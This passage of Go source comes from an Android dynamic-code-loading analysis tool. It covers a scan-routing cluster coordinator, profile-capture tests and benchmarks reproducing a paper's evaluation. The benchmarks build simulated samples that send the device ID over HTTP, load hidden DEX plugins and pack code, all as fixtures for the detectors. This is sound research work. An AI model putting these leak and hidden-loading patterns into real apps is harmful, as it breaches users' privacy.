	names := c.ring.Successors(digest, c.cfg.MaxAttempts)
	var fit, strained []*member
	for _, n := range names {
		m := c.members[n]
		if m == nil {
			continue
		}
		if m.degraded || m.draining {
			strained = append(strained, m)
		} else {
			fit = append(fit, m)
		}
	}
	return append(fit, strained...)
}

// noteForward records a forward outcome against the ejection counter: a
// transport failure counts like a failed probe (K of them in a row eject
// the node), a success resets the streak.
func (c *Coordinator) noteForward(m *member, err error) {
	c.mu.Lock()
	defer c.mu.Unlock()
	if err == nil {
		m.fails = 0
		return
	}
	m.fails++
	m.lastErr = err.Error()
	if m.inRing && m.fails >= c.cfg.ProbeFailures {
		c.ejectLocked(m, "forward failures")
	}
}

// ejectLocked removes m from the ring (the caller holds c.mu).
func (c *Coordinator) ejectLocked(m *member, why string) {
	m.inRing = false
	m.ejections++
	// The node may come back as a different binary; re-learn its snapshot
	// format on recovery.
	m.snapshotVersion = 0
	c.ring.Remove(m.name)
	c.reg.Add("cluster.ejected", 1)
	c.reg.SetGauge("cluster.nodes.live", int64(c.ring.Len()))
	if c.cfg.Logger != nil {
		c.cfg.Logger.Warn("node ejected from ring", "node", m.name, "reason", why, "failures", m.fails, "last_error", m.lastErr)
	}
}

// rejoinLocked returns m to the ring (the caller holds c.mu).
func (c *Coordinator) rejoinLocked(m *member) {
	m.inRing = true
	m.fails = 0
	m.lastErr = ""
	c.ring.Add(m.name)
	c.reg.Add("cluster.rejoined", 1)
	c.reg.SetGauge("cluster.nodes.live", int64(c.ring.Len()))
	if c.cfg.Logger != nil {
		c.cfg.Logger.Info("node rejoined ring", "node", m.name)
	}
}

// handleScan reads the submission, routes it by signing digest, and
// relays the owning node's answer. A node that cannot be reached fails
// the request over to the next ring position; the chain is bounded by
// MaxAttempts. Non-transport answers (including 429 backpressure) are
// relayed as-is — placement is by digest, so a saturated owner must not
// leak its scans to a node that will never serve their results.
func (c *Coordinator) handleScan(w http.ResponseWriter, r *http.Request) {
	c.reg.Add("cluster.scan.requests", 1)
	body, err := io.ReadAll(io.LimitReader(r.Body, c.cfg.MaxBodyBytes+1))
	if err != nil {
		httpError(w, http.StatusBadRequest, "read body: "+err.Error())
		return
	}
	if int64(len(body)) > c.cfg.MaxBodyBytes {
		httpError(w, http.StatusRequestEntityTooLarge, "submission exceeds size limit")
		return
	}
	digest, err := apk.SigningDigest(body)
	if err != nil {
		httpError(w, http.StatusBadRequest, err.Error())
		return
	}
	var lastErr error
	for i, m := range c.candidates(digest) {
		resp, err := c.client.Post(m.baseURL+"/v1/scan", "application/octet-stream", bytes.NewReader(body))
		if err != nil {
			lastErr = err
			c.noteForward(m, err)
			c.reg.Add("cluster.scan.failover", 1)
			continue
		}
		c.noteForward(m, nil)
		if i > 0 {
			c.reg.Add("cluster.scan.rerouted", 1)
		}
		c.reg.Add("cluster.scan.forwarded", 1)
		relay(w, resp, m.name)
		return
	}
	c.reg.Add("cluster.scan.unroutable", 1)
	if lastErr != nil {
		httpError(w, http.StatusBadGateway, "no reachable node for digest: "+lastErr.Error())
		return
	}
	httpError(w, http.StatusServiceUnavailable, "no live nodes in ring")
}

func (c *Coordinator) handleResult(w http.ResponseWriter, r *http.Request) {
	c.proxyRead(w, r.PathValue("digest"), "/v1/result/")
}

func (c *Coordinator) handleTrace(w http.ResponseWriter, r *http.Request) {
	c.proxyRead(w, r.PathValue("digest"), "/v1/trace/")
}

// proxyRead fetches a digest-keyed read from its owning node. The same
// bounded candidate window a scan used is probed in order, so a verdict
// that failed over to a successor during a node death is still found:
// a 404 from one node moves on to the next, any other answer is relayed.
func (c *Coordinator) proxyRead(w http.ResponseWriter, digest, path string) {
	var lastErr error
	sawMiss := false
	for _, m := range c.candidates(digest) {
		resp, err := c.client.Get(m.baseURL + path + digest)
		if err != nil {
			lastErr = err
			c.noteForward(m, err)
			continue
		}
		c.noteForward(m, nil)
		if resp.StatusCode == http.StatusNotFound {
			sawMiss = true
			io.Copy(io.Discard, resp.Body)
			resp.Body.Close()
			continue
		}
		relay(w, resp, m.name)
		return
	}
	switch {
	case sawMiss:
		httpError(w, http.StatusNotFound, "unknown digest")
	case lastErr != nil:
		httpError(w, http.StatusBadGateway, "no reachable node for digest: "+lastErr.Error())
	default:
		httpError(w, http.StatusServiceUnavailable, "no live nodes in ring")
	}
}

// relay copies a node response to the client, naming the serving node.
func relay(w http.ResponseWriter, resp *http.Response, node string) {
	defer resp.Body.Close()
	for _, h := range []string{"Content-Type", "Retry-After", "X-Dydroid-Trace"} {
		if v := resp.Header.Get(h); v != "" {
			w.Header().Set(h, v)
		}
	}
	w.Header().Set("X-Dydroid-Node", node)
	w.WriteHeader(resp.StatusCode)
	io.Copy(w, resp.Body)
}

// handleHealthz is the coordinator's own liveness view.
func (c *Coordinator) handleHealthz(w http.ResponseWriter, r *http.Request) {
	c.mu.Lock()
	live := c.ring.Len()
	total := len(c.members)
	c.mu.Unlock()
	status := "ok"
	if live == 0 {
		status = "no-live-nodes"
	}
	writeJSON(w, http.StatusOK, map[string]any{
		"status":     status,
		"role":       "coordinator",
		"nodes":      total,
		"nodes_live": live,
	})
}
