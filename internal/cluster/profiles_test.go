package cluster

import (
	"context"
	"encoding/json"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"strings"
	"testing"
	"time"

	"github.com/dydroid/dydroid/internal/core"
	"github.com/dydroid/dydroid/internal/events"
	"github.com/dydroid/dydroid/internal/metrics"
	"github.com/dydroid/dydroid/internal/profile"
	"github.com/dydroid/dydroid/internal/service"
)

// profiledWorker boots a genuine vetting daemon with a live profile
// recorder and a nanosecond slow deadline, so any real analysis trips
// the watchdog and captures a window.
func profiledWorker(t *testing.T, name string) (*service.Server, *httptest.Server, *profile.Recorder) {
	t.Helper()
	journal := events.NewJournal(0)
	rec := profile.New(profile.Options{
		Node:      name,
		WindowDur: 20 * time.Millisecond,
		Cooldown:  time.Minute,
		Journal:   journal,
		Metrics:   metrics.New(),
	})
	s, err := service.New(service.Config{
		Analyzer:     core.NewAnalyzer(core.Options{Seed: 1}),
		Workers:      1,
		Metrics:      metrics.New(),
		SlowDeadline: time.Nanosecond,
		Journal:      journal,
		Profiles:     rec,
		Node:         name,
	})
	if err != nil {
		t.Fatal(err)
	}
	ts := httptest.NewServer(s.Handler())
	t.Cleanup(ts.Close)
	t.Cleanup(func() {
		ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
		defer cancel()
		s.Shutdown(ctx)
	})
	return s, ts, rec
}

func getProfiles(t *testing.T, base string) ProfilesResponse {
	t.Helper()
	resp, err := http.Get(base + "/v1/profiles")
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("/v1/profiles: %d", resp.StatusCode)
	}
	var pr ProfilesResponse
	if err := json.NewDecoder(resp.Body).Decode(&pr); err != nil {
		t.Fatal(err)
	}
	return pr
}

// TestFederatedProfileCapture is the cross-node acceptance path: a scan
// routed through the coordinator trips the worker's slow-analysis
// watchdog, which captures a profile window tagged with the offending
// digest and journals it; the coordinator's federated /v1/profiles
// indexes the window under the member's name and /v1/profiles/{id}
// relays the raw pprof bytes with node provenance.
func TestFederatedProfileCapture(t *testing.T) {
	_, tsA, _ := profiledWorker(t, "workerA")
	_, tsB, _ := profiledWorker(t, "workerB")

	coord, err := New(Config{
		Nodes:         []string{tsA.URL, tsB.URL},
		ProbeInterval: time.Hour,
		Metrics:       metrics.New(),
	})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(coord.Close)
	cts := httptest.NewServer(coord.Handler())
	t.Cleanup(cts.Close)

	apkBytes := tinyAPK(t, "com.fed.profile")
	digests := scanAll(t, cts.URL, [][]byte{apkBytes})
	awaitAll(t, cts.URL, digests)
	digest := digests[0]

	// The watchdog capture runs async; poll the federated index until a
	// watchdog window tagged with the digest appears.
	var meta profile.Meta
	deadline := time.Now().Add(10 * time.Second)
	for {
		pr := getProfiles(t, cts.URL)
		found := false
		for _, m := range pr.Windows {
			if m.Trigger == profile.TriggerWatchdog && m.Digest == digest {
				meta, found = m, true
			}
		}
		if found {
			break
		}
		if time.Now().After(deadline) {
			t.Fatalf("no watchdog window for %s in federated index: %+v", digest, pr.Windows)
		}
		time.Sleep(10 * time.Millisecond)
	}
	if meta.Node != tsA.URL && meta.Node != tsB.URL {
		t.Fatalf("federated window node = %q, want a configured member name", meta.Node)
	}

	// The journaled capture federates with the member journals.
	evs := fetchClusterEvents(t, cts.URL)
	var captured *events.Event
	for i, e := range evs {
		if e.Type == events.ProfileCaptured && e.Digest == digest {
			captured = &evs[i]
		}
	}
	if captured == nil {
		t.Fatalf("no federated profile-captured event: %+v", evs)
	}
	if !strings.Contains(captured.Detail, meta.ID) {
		t.Fatalf("profile-captured detail = %q, want window %s", captured.Detail, meta.ID)
	}

	// Download through the coordinator, pinned to the holding node: the
	// full window first, then the raw pprof bytes, which must parse.
	resp, err := http.Get(cts.URL + "/v1/profiles/" + meta.ID + "?node=" + meta.Node)
	if err != nil {
		t.Fatal(err)
	}
	var win profile.Window
	if err := json.NewDecoder(resp.Body).Decode(&win); err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if got := resp.Header.Get("X-Dydroid-Node"); got != meta.Node {
		t.Fatalf("X-Dydroid-Node = %q, want %q", got, meta.Node)
	}
	if win.Digest != digest || win.Trigger != profile.TriggerWatchdog {
		t.Fatalf("window = trigger=%q digest=%q", win.Trigger, win.Digest)
	}

	resp, err = http.Get(cts.URL + "/v1/profiles/" + meta.ID + "?node=" + meta.Node + "&format=pprof")
	if err != nil {
		t.Fatal(err)
	}
	raw, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("pprof download: %d %s", resp.StatusCode, raw)
	}
	if _, err := profile.ParseCPUProfile(raw, 5); err != nil {
		t.Fatalf("federated pprof bytes do not parse: %v", err)
	}

	// CI keeps the captured window and its rendered top-functions table
	// as artifacts — the same hook pattern the cluster status and trace
	// tests use.
	if path := os.Getenv("PROFILE_SUMMARY_ARTIFACT"); path != "" {
		raw, err := json.MarshalIndent(win, "", "  ")
		if err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(path, append(raw, '\n'), 0o644); err != nil {
			t.Fatalf("write profile summary artifact: %v", err)
		}
	}
	if path := os.Getenv("PROFILE_TOP_ARTIFACT"); path != "" {
		var buf strings.Builder
		profile.RenderTop(&buf, &win, 20)
		if err := os.WriteFile(path, []byte(buf.String()), 0o644); err != nil {
			t.Fatalf("write profile top artifact: %v", err)
		}
	}

	// Unpinned fetch walks the members and still finds the window.
	resp, err = http.Get(cts.URL + "/v1/profiles/" + meta.ID)
	if err != nil {
		t.Fatal(err)
	}
	io.Copy(io.Discard, resp.Body)
	resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("unpinned window fetch: %d", resp.StatusCode)
	}

	// Misses answer 404: unknown window everywhere, and an unknown pin.
	for _, path := range []string{"/v1/profiles/w999999", "/v1/profiles/" + meta.ID + "?node=nosuch"} {
		resp, err := http.Get(cts.URL + path)
		if err != nil {
			t.Fatal(err)
		}
		io.Copy(io.Discard, resp.Body)
		resp.Body.Close()
		if resp.StatusCode != http.StatusNotFound {
			t.Fatalf("GET %s = %d, want 404", path, resp.StatusCode)
		}
	}
}

// TestCoordinatorMetriczAndPprof: the coordinator exposes its own
// metrics registry and runtime pprof surface, like its workers.
func TestCoordinatorMetriczAndPprof(t *testing.T) {
	n := newStubNode(t)
	_, cts, reg := newTestCoordinator(t, Config{ProbeInterval: time.Hour}, n)
	reg.Add("cluster.scan.requests", 3)

	resp, err := http.Get(cts.URL + "/v1/metricz")
	if err != nil {
		t.Fatal(err)
	}
	body, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	if resp.StatusCode != http.StatusOK || !strings.Contains(string(body), "cluster.scan.requests") {
		t.Fatalf("metricz = %d\n%s", resp.StatusCode, body)
	}

	resp, err = http.Get(cts.URL + "/v1/metricz?format=prom")
	if err != nil {
		t.Fatal(err)
	}
	body, _ = io.ReadAll(resp.Body)
	resp.Body.Close()
	if !strings.Contains(string(body), "dydroid_cluster_scan_requests_total") {
		t.Fatalf("prom metricz missing counter:\n%s", body)
	}

	resp, err = http.Get(cts.URL + "/debug/pprof/")
	if err != nil {
		t.Fatal(err)
	}
	body, _ = io.ReadAll(resp.Body)
	resp.Body.Close()
	if resp.StatusCode != http.StatusOK || !strings.Contains(string(body), "goroutine") {
		t.Fatalf("pprof index = %d\n%.200s", resp.StatusCode, body)
	}
}
