// Benchmarks regenerating every table and figure of the paper's
// evaluation, plus micro-benchmarks of the substrates and the ablations
// called out in DESIGN.md. Table benches share one measurement run (the
// expensive part, benchmarked separately as BenchmarkFullMeasurement) and
// time the per-table aggregation.
package dydroid_test

import (
	"maps"
	"strings"
	"sync"
	"testing"

	"github.com/dydroid/dydroid/internal/apk"
	"github.com/dydroid/dydroid/internal/core"
	"github.com/dydroid/dydroid/internal/corpus"
	"github.com/dydroid/dydroid/internal/dex"
	"github.com/dydroid/dydroid/internal/droidnative"
	"github.com/dydroid/dydroid/internal/experiments"
	"github.com/dydroid/dydroid/internal/mail"
	"github.com/dydroid/dydroid/internal/netsim"
	"github.com/dydroid/dydroid/internal/obfuscation"
	"github.com/dydroid/dydroid/internal/taint"
)

// benchScale keeps per-iteration work tractable; the full-scale run is
// cmd/experiments -scale 1.0.
const benchScale = 0.002

var (
	sharedOnce    sync.Once
	sharedResults *experiments.Results
	sharedErr     error
)

func sharedRun(b *testing.B) *experiments.Results {
	b.Helper()
	sharedOnce.Do(func() {
		sharedResults, sharedErr = experiments.Run(experiments.Config{
			Seed: 2016, Scale: benchScale, Workers: 4,
		})
	})
	if sharedErr != nil {
		b.Fatal(sharedErr)
	}
	return sharedResults
}

// benchSeed pins every BenchmarkFullMeasurement iteration to one
// generated marketplace: iterations measure the same workload, so
// apps/sec compares across iterations and across runs instead of
// jittering with corpus composition. Matches sharedRun's corpus.
const benchSeed = 2016

// BenchmarkFullMeasurement times the complete pipeline — generate the
// marketplace, analyze every app, replay the malware — at bench scale,
// and reports the per-stage mean timings from the run's metrics registry
// so stage-level regressions show up in benchmark diffs. Corpus
// variance is a separate measurand: see the seed-sweep sub-benchmark.
func BenchmarkFullMeasurement(b *testing.B) {
	for i := 0; i < b.N; i++ {
		res, err := experiments.Run(experiments.Config{
			Seed: benchSeed, Scale: benchScale, Workers: 4,
		})
		if err != nil {
			b.Fatal(err)
		}
		b.ReportMetric(float64(len(res.Records)), "apps/op")
		b.ReportMetric(res.RunStats.AppsPerSec, "apps/sec")
		for name, st := range res.RunStats.Stages {
			if stage, ok := strings.CutPrefix(name, "stage."); ok {
				b.ReportMetric(float64(st.Mean.Nanoseconds()), stage+"-ns/app")
			}
		}
	}
}

// BenchmarkFullMeasurementSeedSweep deliberately regenerates a different
// marketplace every iteration (the pre-fix BenchmarkFullMeasurement
// behaviour): the spread of its apps/sec against the fixed-seed
// benchmark measures sensitivity to corpus composition, not pipeline
// speed. Keep trajectory comparisons on the fixed-seed benchmark.
func BenchmarkFullMeasurementSeedSweep(b *testing.B) {
	for i := 0; i < b.N; i++ {
		res, err := experiments.Run(experiments.Config{
			Seed: int64(i), Scale: benchScale, Workers: 4,
		})
		if err != nil {
			b.Fatal(err)
		}
		b.ReportMetric(float64(len(res.Records)), "apps/op")
		b.ReportMetric(res.RunStats.AppsPerSec, "apps/sec")
	}
}

// TestFullMeasurementIterationsComparable is the regression test for the
// pinned benchmark seed: two runs at the benchmark's seed and scale must
// measure the same workload — identical corpus size and per-status
// outcome counts — otherwise per-iteration apps/sec are not comparable.
func TestFullMeasurementIterationsComparable(t *testing.T) {
	run := func() *experiments.Results {
		res, err := experiments.Run(experiments.Config{
			Seed: benchSeed, Scale: benchScale, Workers: 4,
		})
		if err != nil {
			t.Fatal(err)
		}
		return res
	}
	a, b := run(), run()
	if len(a.Records) != len(b.Records) {
		t.Fatalf("corpus size differs between iterations: %d vs %d", len(a.Records), len(b.Records))
	}
	if !maps.Equal(a.RunStats.StatusCounts, b.RunStats.StatusCounts) {
		t.Fatalf("status counts differ between iterations:\n%v\n%v",
			a.RunStats.StatusCounts, b.RunStats.StatusCounts)
	}
}

// BenchmarkTableIDownloadTracker regenerates a Table I flow chain —
// URL -> InputStream -> Buffer -> OutputStream -> File — and resolves the
// provenance query.
func BenchmarkTableIDownloadTracker(b *testing.B) {
	payload := make([]byte, 4096)
	net := netsim.NewNetwork()
	net.Serve("http://mobads.baidu.com/ads/pa/x.jar", netsim.Payload{Data: payload})
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		tracker := core.NewTracker()
		fac := netsim.NewFactory(tracker)
		u := fac.NewURL("http://mobads.baidu.com/ads/pa/x.jar")
		in, err := net.OpenStream(fac, u)
		if err != nil {
			b.Fatal(err)
		}
		out := fac.NewOutputStream("/data/data/app/cache/x.jar")
		for {
			buf := in.Read(512)
			if buf == nil {
				break
			}
			out.Write(buf)
		}
		out.CloseToFile()
		if p, _ := tracker.Provenance("/data/data/app/cache/x.jar"); p != core.ProvenanceRemote {
			b.Fatal("provenance lost")
		}
	}
}

func benchTable(b *testing.B, f func(*experiments.Results) string, want int) {
	res := sharedRun(b)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if out := f(res); len(out) < want {
			b.Fatalf("table too short: %d bytes", len(out))
		}
	}
}

// One benchmark per evaluation table/figure.
func BenchmarkTableIIDynamicSummary(b *testing.B) {
	benchTable(b, (*experiments.Results).TableII, 100)
}
func BenchmarkTableIIIPopularity(b *testing.B) {
	benchTable(b, (*experiments.Results).TableIII, 100)
}
func BenchmarkTableIVEntity(b *testing.B) {
	benchTable(b, (*experiments.Results).TableIV, 100)
}
func BenchmarkTableVRemoteFetch(b *testing.B) {
	benchTable(b, (*experiments.Results).TableV, 50)
}
func BenchmarkTableVIObfuscation(b *testing.B) {
	benchTable(b, (*experiments.Results).TableVI, 100)
}
func BenchmarkFigure3PackerCategories(b *testing.B) {
	benchTable(b, (*experiments.Results).Figure3, 50)
}
func BenchmarkTableVIIMalware(b *testing.B) {
	benchTable(b, (*experiments.Results).TableVII, 50)
}
func BenchmarkTableVIIIRuntimeConfigs(b *testing.B) {
	benchTable(b, (*experiments.Results).TableVIII, 100)
}
func BenchmarkTableIXVulnerable(b *testing.B) {
	benchTable(b, (*experiments.Results).TableIX, 50)
}
func BenchmarkTableXPrivacy(b *testing.B) {
	benchTable(b, (*experiments.Results).TableX, 100)
}

// --- substrate micro-benchmarks -------------------------------------------

func BenchmarkDexEncodeDecode(b *testing.B) {
	bd := dex.NewBuilder()
	for c := 0; c < 20; c++ {
		cls := bd.Class("com.bench.C"+string(rune('A'+c)), "java.lang.Object")
		m := cls.Method("work", dex.ACCPublic, 8, "V")
		for i := 0; i < 40; i++ {
			m.Const(1, int64(i)).Add(2, 1, 1)
		}
		m.ReturnVoid().Done()
	}
	f := bd.File()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		data, err := dex.Encode(f)
		if err != nil {
			b.Fatal(err)
		}
		if _, err := dex.Decode(data); err != nil {
			b.Fatal(err)
		}
	}
}

// BenchmarkPipelinePerApp times the complete hybrid pipeline for a single
// ad-supported app (the dominant archetype of the corpus).
func BenchmarkPipelinePerApp(b *testing.B) {
	st, err := corpus.Generate(corpus.Config{Seed: 1, Scale: 0.001})
	if err != nil {
		b.Fatal(err)
	}
	var target *corpus.StoreApp
	for _, app := range st.Apps {
		if app.Spec.AdMob {
			target = app
			break
		}
	}
	if target == nil {
		b.Fatal("no ad app")
	}
	data, err := st.BuildAPK(target)
	if err != nil {
		b.Fatal(err)
	}
	an := core.NewAnalyzer(core.Options{Seed: 1, Network: st.Network, SetupDevice: st.SetupDevice})
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		res, err := an.AnalyzeAPK(data)
		if err != nil {
			b.Fatal(err)
		}
		if res.Status != core.StatusExercised {
			b.Fatal(res.Status)
		}
	}
}

// BenchmarkPackerRoundTrip times pack -> run -> intercept for the
// DEX-encryption container.
func BenchmarkPackerRoundTrip(b *testing.B) {
	bd := dex.NewBuilder()
	bd.Class("com.bench.Main", "android.app.Activity").
		Method("onCreate", dex.ACCPublic, 2, "V", "Landroid/os/Bundle;").ReturnVoid().Done()
	dexBytes, err := dex.Encode(bd.File())
	if err != nil {
		b.Fatal(err)
	}
	a := &apk.APK{
		Manifest: apk.Manifest{Package: "com.bench", MinSDK: 16,
			Application: apk.Application{Activities: []apk.Component{{Name: "com.bench.Main", Main: true}}}},
		Dex: dexBytes,
	}
	an := core.NewAnalyzer(core.Options{Seed: 1})
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		packed, err := obfuscation.Pack(a, 0x5a)
		if err != nil {
			b.Fatal(err)
		}
		data, err := apk.Build(packed)
		if err != nil {
			b.Fatal(err)
		}
		res, err := an.AnalyzeAPK(data)
		if err != nil {
			b.Fatal(err)
		}
		if len(res.DexEvents()) == 0 {
			b.Fatal("container load not intercepted")
		}
	}
}

// BenchmarkDroidNativeClassify times ACFG matching of one binary against
// a 19-family training set.
func BenchmarkDroidNativeClassify(b *testing.B) {
	st, err := corpus.Generate(corpus.Config{Seed: 1, Scale: 0.001})
	if err != nil {
		b.Fatal(err)
	}
	clf, err := st.TrainingSet(3)
	if err != nil {
		b.Fatal(err)
	}
	prog := benignTestProgram(b)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if det := clf.Classify(prog); det.Malware {
			b.Fatal("benign flagged")
		}
	}
}

func benignTestProgram(b *testing.B) *mail.Program {
	bd := dex.NewBuilder()
	m := bd.Class("com.bench.Plugin", "java.lang.Object").
		Method("tick", dex.ACCPublic, 6, "I")
	m.Const(1, 0).
		Const(2, 64).
		Label("l").
		IfGe(1, 2, "e").
		Const(3, 1).
		Add(1, 1, 3).
		Goto("l").
		Label("e").
		Return(1).Done()
	return mail.FromDex(bd.File())
}

// BenchmarkTaintAnalyze times the FlowDroid-style analysis of a loaded
// binary with interprocedural and field-mediated flows.
func BenchmarkTaintAnalyze(b *testing.B) {
	bd := dex.NewBuilder()
	cls := bd.Class("com.sdk.T", "java.lang.Object")
	h := cls.Method("id", dex.ACCPublic, 3, "Ljava/lang/String;")
	h.NewInstance(1, "android.telephony.TelephonyManager").
		InvokeVirtual(dex.MethodRef{Class: "android.telephony.TelephonyManager",
			Name: "getDeviceId", Sig: "()Ljava/lang/String;"}, 1).
		MoveResult(2).
		Return(2).Done()
	m := cls.Method("send", dex.ACCPublic, 4, "V")
	m.InvokeVirtual(dex.MethodRef{Class: "com.sdk.T", Name: "id",
		Sig: "()Ljava/lang/String;"}, 0).
		MoveResult(1).
		NewInstance(2, "java.net.HttpURLConnection").
		InvokeVirtual(dex.MethodRef{Class: "java.net.HttpURLConnection",
			Name: "write", Sig: "(Ljava/lang/String;)V"}, 2, 1).
		ReturnVoid().Done()
	f := bd.File()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if res := taint.Analyze(f); len(res.Leaks) != 1 {
			b.Fatal("leak not found")
		}
	}
}

// --- ablations --------------------------------------------------------------

// BenchmarkAblationPreFilter compares pipeline cost with the static
// pre-filter on (paper design: skip apps without DCL code) and off
// (exercise everything) over a no-DCL app.
func BenchmarkAblationPreFilter(b *testing.B) {
	bd := dex.NewBuilder()
	bd.Class("com.plainbench.Main", "android.app.Activity").
		Method("onCreate", dex.ACCPublic, 2, "V", "Landroid/os/Bundle;").ReturnVoid().Done()
	dexBytes, err := dex.Encode(bd.File())
	if err != nil {
		b.Fatal(err)
	}
	a := &apk.APK{
		Manifest: apk.Manifest{Package: "com.plainbench", MinSDK: 16,
			Application: apk.Application{Activities: []apk.Component{{Name: "com.plainbench.Main", Main: true}}}},
		Dex: dexBytes,
	}
	data, err := apk.Build(a)
	if err != nil {
		b.Fatal(err)
	}
	b.Run("prefilter-on", func(b *testing.B) {
		an := core.NewAnalyzer(core.Options{Seed: 1})
		for i := 0; i < b.N; i++ {
			res, err := an.AnalyzeAPK(data)
			if err != nil {
				b.Fatal(err)
			}
			if res.Status != core.StatusNoDCL {
				b.Fatal(res.Status)
			}
		}
	})
	b.Run("prefilter-off", func(b *testing.B) {
		an := core.NewAnalyzer(core.Options{Seed: 1, RunDynamicWithoutDCL: true})
		for i := 0; i < b.N; i++ {
			res, err := an.AnalyzeAPK(data)
			if err != nil {
				b.Fatal(err)
			}
			if res.Status != core.StatusExercised {
				b.Fatal(res.Status)
			}
		}
	})
}

// BenchmarkAblationDeleteBlocking measures interception yield with the
// delete/rename blocking queue on (paper design) and off, over apps whose
// ad SDK deletes its temporary loaded file. The interceptions/op metric is
// the point: it drops to zero without blocking.
func BenchmarkAblationDeleteBlocking(b *testing.B) {
	st, err := corpus.Generate(corpus.Config{Seed: 1, Scale: 0.001})
	if err != nil {
		b.Fatal(err)
	}
	var data []byte
	for _, app := range st.Apps {
		if app.Spec.AdMob {
			if data, err = st.BuildAPK(app); err != nil {
				b.Fatal(err)
			}
			break
		}
	}
	if data == nil {
		b.Fatal("no ad app")
	}
	run := func(b *testing.B, disable bool) {
		an := core.NewAnalyzer(core.Options{Seed: 1, DisableDeleteBlocking: disable})
		intercepted := 0
		for i := 0; i < b.N; i++ {
			res, err := an.AnalyzeAPK(data)
			if err != nil {
				b.Fatal(err)
			}
			for _, ev := range res.DexEvents() {
				if ev.Intercepted != nil {
					intercepted++
				}
			}
		}
		b.ReportMetric(float64(intercepted)/float64(b.N), "interceptions/op")
	}
	b.Run("blocking-on", func(b *testing.B) { run(b, false) })
	b.Run("blocking-off", func(b *testing.B) { run(b, true) })
}

// BenchmarkAblationACFGThreshold sweeps DroidNative's match threshold
// around the paper's 90% choice, reporting detection outcomes for an
// exact variant and a benign sample.
func BenchmarkAblationACFGThreshold(b *testing.B) {
	st, err := corpus.Generate(corpus.Config{Seed: 1, Scale: 0.001})
	if err != nil {
		b.Fatal(err)
	}
	benign := benignTestProgram(b)
	for _, th := range []float64{0.5, 0.7, 0.9, 0.99} {
		b.Run(thName(th), func(b *testing.B) {
			clf, err := st.TrainingSet(1)
			if err != nil {
				b.Fatal(err)
			}
			clf.Threshold = th
			falsePos := 0
			for i := 0; i < b.N; i++ {
				if det := clf.Classify(benign); det.Malware {
					falsePos++
				}
			}
			b.ReportMetric(float64(falsePos)/float64(b.N), "benign-fp/op")
		})
	}
}

func thName(th float64) string {
	switch th {
	case 0.5:
		return "threshold-50"
	case 0.7:
		return "threshold-70"
	case 0.9:
		return "threshold-90-paper"
	default:
		return "threshold-99"
	}
}

// BenchmarkCorpusGenerate times marketplace generation alone.
func BenchmarkCorpusGenerate(b *testing.B) {
	for i := 0; i < b.N; i++ {
		st, err := corpus.Generate(corpus.Config{Seed: int64(i), Scale: benchScale})
		if err != nil {
			b.Fatal(err)
		}
		if len(st.Apps) == 0 {
			b.Fatal("empty store")
		}
	}
}

// BenchmarkDroidNativeTrain times building the training set.
func BenchmarkDroidNativeTrain(b *testing.B) {
	st, err := corpus.Generate(corpus.Config{Seed: 1, Scale: 0.001})
	if err != nil {
		b.Fatal(err)
	}
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		clf, err := st.TrainingSet(3)
		if err != nil {
			b.Fatal(err)
		}
		if clf.TrainedSamples() == 0 {
			b.Fatal("no samples")
		}
	}
}

var _ = droidnative.MatchThreshold // keep the import for documentation linkage

// BenchmarkAblationMonkeyBudget measures interception yield against the
// fuzzing budget for an app whose DCL hides behind a UI callback rather
// than firing at launch. The paper's discussion argues a small Monkey
// budget suffices because ad-library DCL triggers at launch; this
// ablation shows the budget matters exactly when it does not.
func BenchmarkAblationMonkeyBudget(b *testing.B) {
	pkg := "com.bench.lazydcl"
	payloadB := dex.NewBuilder()
	payloadB.Class("com.plugin.P", "java.lang.Object").
		Method("f", dex.ACCPublic, 1, "V").ReturnVoid().Done()
	payload, err := dex.Encode(payloadB.File())
	if err != nil {
		b.Fatal(err)
	}
	bd := dex.NewBuilder()
	act := bd.Class(pkg+".Main", "android.app.Activity")
	act.Method("onCreate", dex.ACCPublic, 2, "V", "Landroid/os/Bundle;").ReturnVoid().Done()
	cb := act.Method("onClickLoadPlugin", dex.ACCPublic, 8, "V")
	cb.NewInstance(1, "java.io.FileInputStream").
		ConstString(2, "/data/data/"+pkg+"/assets/plugin.bin").
		InvokeDirect(dex.MethodRef{Class: "java.io.FileInputStream", Name: "<init>",
			Sig: "(Ljava/lang/String;)V"}, 1, 2).
		NewInstance(3, "java.io.FileOutputStream").
		ConstString(4, "/data/data/"+pkg+"/cache/plugin.dex").
		InvokeDirect(dex.MethodRef{Class: "java.io.FileOutputStream", Name: "<init>",
			Sig: "(Ljava/lang/String;)V"}, 3, 4).
		InvokeVirtual(dex.MethodRef{Class: "java.io.FileInputStream", Name: "readAll",
			Sig: "()[B"}, 1).
		MoveResult(5).
		InvokeVirtual(dex.MethodRef{Class: "java.io.FileOutputStream", Name: "write",
			Sig: "([B)V"}, 3, 5).
		InvokeVirtual(dex.MethodRef{Class: "java.io.FileOutputStream", Name: "close",
			Sig: "()V"}, 3).
		ConstString(6, "/data/data/"+pkg+"/cache/odex").
		NewInstance(7, "dalvik.system.DexClassLoader").
		InvokeDirect(dex.MethodRef{Class: "dalvik.system.DexClassLoader", Name: "<init>",
			Sig: "(Ljava/lang/String;Ljava/lang/String;Ljava/lang/String;Ljava/lang/ClassLoader;)V"},
			7, 4, 6, 0, 0).
		ReturnVoid().Done()
	dexBytes, err := dex.Encode(bd.File())
	if err != nil {
		b.Fatal(err)
	}
	a := &apk.APK{
		Manifest: apk.Manifest{Package: pkg, MinSDK: 16,
